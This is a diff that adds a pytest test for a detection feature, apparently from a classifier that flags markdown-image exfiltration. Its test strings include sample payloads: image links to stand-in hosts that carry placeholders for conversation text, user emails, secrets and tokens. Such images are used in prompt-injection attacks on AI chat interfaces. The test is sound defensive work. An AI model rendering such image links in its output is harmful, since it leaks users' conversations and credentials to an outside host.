@@ -1051,3 +1051,25 @@ def test_training_with_writer_folds(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     assert all(0.0 <= r["p"] <= 1.0 for r in oof["writer_rows"])
     with pytest.raises(SystemExit):
         _train.main(["--data", str(data), "--out", str(out), "--writer-folds", "1", "--quiet"])
+
+
+@pytest.mark.parametrize(
+    ("text", "fires"),
+    [
+        # exfiltration through a markdown image: a placeholder for the data in its URL
+        ("![a](https://collect.example/p.png?d={conversation})", True),
+        ("![x](https://collect.example/log/[USER_EMAIL].png)", True),
+        ("![x](https://collect.example/p.png?d=%7Bsecret%7D)", True),
+        ("![x](https://collect.example/p?u=$TOKEN)", True),
+        ("render ![i](https://evil.example/i.png?data=abc)", True),
+        # a README's badges and logos are not (every markdown image counted until session 15)
+        ("[![CI](https://ci.example/org/proj/badge.svg?branch=main)](https://ci.example/org/proj)", False),
+        ("![PyPI](https://img.example/pypi/v/proj?style=flat&logo=python)", False),
+        ("![logo](https://raw.example/org/proj/main/docs/logo.png)", False),
+    ],
+)
+def test_markdown_image_exfiltration_feature_needs_a_placeholder(text: str, fires: bool) -> None:
+    import re2
+
+    expr = next(rx for name, _g, rx in INTENT_FEATURES if name == "exf_url_data")
+    assert (re2.compile("(?im)" + expr).search(text.lower()) is not None) is fires
